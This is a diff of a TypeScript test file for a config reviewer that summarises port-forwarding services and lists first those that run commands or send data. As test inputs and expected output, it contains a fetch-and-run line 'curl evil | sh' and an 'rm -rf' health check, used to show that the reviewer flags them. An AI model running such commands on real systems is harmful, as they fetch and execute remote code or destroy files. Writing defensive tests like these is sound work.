@@ -29,13 +29,13 @@ describe('the review of a config', () => {
     health_check: {type: exec, config: {argv: [rm, -rf, "/tmp/a b"]}}
 `),
     ).toEqual([
-      'api: localhost:1 → service/api:80 in namespace web of prod',
       'any: localhost:6 → app=x,tier=db:http in the namespace of the current context in /k/prod | kubectl, and the credential plugins that /k/prod names',
+      "tool: localhost:4 → wherever its program leads | sh -c 'curl evil | sh' '{local_port}'",
+      "checked: localhost:5 → far:9 | check: rm -rf '/tmp/a b'",
+      'api: localhost:1 → service/api:80 in namespace web of prod',
       'db: localhost:2 → ssh gate → me@bastion:2222 → db:5432',
       'hook: localhost:8080 at ssh gate → me@bastion → localhost:3000 as this machine reaches it',
       'far: 0.0.0.0:3 → far:9',
-      "tool: localhost:4 → wherever its program leads | sh -c 'curl evil | sh' '{local_port}'",
-      "checked: localhost:5 → far:9 | check: rm -rf '/tmp/a b'",
     ]);
   });
 
@@ -85,7 +85,7 @@ describe('the review of a config', () => {
     ]);
   });
 
-  it('lists first what runs or sends something, if it cannot list all', () => {
+  it('lists every service, first those that run or send something', () => {
     const harmless = (index: number): string =>
       `  - {name: s${index}, technology: tcp, local_port: ${index + 1}, remote_port: 1, connection: {host: h}}\n`;
     const { services } = review(
@@ -93,6 +93,9 @@ describe('the review of a config', () => {
   - {name: evil, technology: command, local_port: 1000, connection: {argv: [evil, "{local_port}"]}}\n`,
     );
     expect(services[0]).toMatchObject({ name: 'evil' });
+    expect(services.slice(1).map(({ name }) => name)).toEqual(
+      Array.from({ length: 150 }, (_, index) => `s${index}`),
+    );
   });
 
   it('names a socket beside a port', () => {
@@ -103,11 +106,10 @@ describe('the review of a config', () => {
     ).toEqual(['a: localhost:4 and /run/a → h:1']);
   });
 
-  it('stays small, and notes what it leaves out', () => {
-    const entry = (index: number): string =>
-      `  - {name: s${index}, technology: command, local_port: ${index + 1}, connection: {argv: [sh, "${'x'.repeat(2_000)}", "{local_port}"]}}\n`;
-    const { services, more } = review(Array.from({ length: 150 }, (_, index) => entry(index)).join(''));
-    expect([services.length, more]).toEqual([100, 50]);
+  it('bounds each text, and notes what it leaves out', () => {
+    const { services } = review(
+      `  - {name: s, technology: command, local_port: 1, connection: {argv: [sh, "${'x'.repeat(2_000)}", "{local_port}"]}}\n`,
+    );
     expect(services[0]?.runs[0]).toMatch(/… \(\d+ more characters\)$/);
     expect(services[0]?.runs[0]?.length).toBeLessThan(600);
   });
